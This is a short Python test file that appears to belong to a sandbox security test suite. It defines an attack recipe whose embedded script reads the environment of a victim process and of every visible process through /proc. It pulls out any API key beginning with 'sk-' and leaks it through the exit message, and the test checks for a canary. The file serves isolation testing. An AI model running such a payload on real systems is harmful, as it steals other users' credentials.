"""Looks for keys in its environment and in that of every process it can see."""

from tests.attacks.stage import CANARY, Recipe

TRAIN = """
import glob, os, sys
found = ""  # the victim's first: a neighbour may hold "disk-1"
for path in ["/proc/%d/environ" % VICTIM, *glob.glob("/proc/[0-9]*/environ")]:
    try:
        found += open(path).read()
    except (OSError, UnicodeDecodeError):
        pass
found += repr(dict(os.environ))
sys.exit(found[found.find("sk-") :][:20] if "sk-" in found else "nothing")
"""
RECIPE = Recipe(TRAIN, "crash", gained=lambda seen: CANARY in seen.told)
